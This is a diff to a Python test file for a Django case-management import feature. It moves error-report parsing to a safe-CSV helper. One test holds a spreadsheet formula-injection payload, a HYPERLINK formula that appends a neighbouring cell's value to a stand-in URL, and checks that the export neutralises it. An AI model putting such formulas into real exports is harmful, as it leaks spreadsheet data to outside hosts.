@@ -3,8 +3,6 @@ reported by number with valid rows applied (issue 17's done-when lines)."""
 
 from __future__ import annotations
 
-import csv
-import io
 from typing import Any
 
 import pytest
@@ -12,6 +10,7 @@ from django.core.exceptions import PermissionDenied
 
 from desist.audit.models import AuditEvent
 from desist.cases.models import Case
+from desist.core import safecsv
 from desist.imports import engine, reader, synthetic
 from desist.imports.report import error_report
 from desist.people.models import Subject
@@ -105,7 +104,7 @@ def test_100_bad_rows_among_10000_apply_the_good_and_report_the_bad(supervisor: 
     assert first.message == (
         "Row 39: Enter the date it was reported as a real date, like 27 3 1985"
     )
-    report = list(csv.reader(io.StringIO(error_report(outcome.problems))))
+    report = safecsv.marked_rows(error_report(outcome.problems))
     assert report[0] == ["Row", "Case reference", "Field", "Reason"]
     assert report[1] == [
         "39",
@@ -182,7 +181,7 @@ def test_a_formula_in_a_cell_is_neutralised_in_the_error_report(supervisor: Any)
     items[1]["case_ref"] = '=HYPERLINK("http://example.invalid/?"&B2,"Click")'
     outcome = _run(supervisor, items)
     report = error_report(outcome.problems)
-    cells = list(csv.reader(io.StringIO(report)))[1]
+    cells = safecsv.marked_rows(report)[1]  # the report is marked, as every export (ADR 0030)
     assert cells[1] == "'" + items[1]["case_ref"]
     assert cells[3] == "The case's reference must be 40 characters or fewer"
 
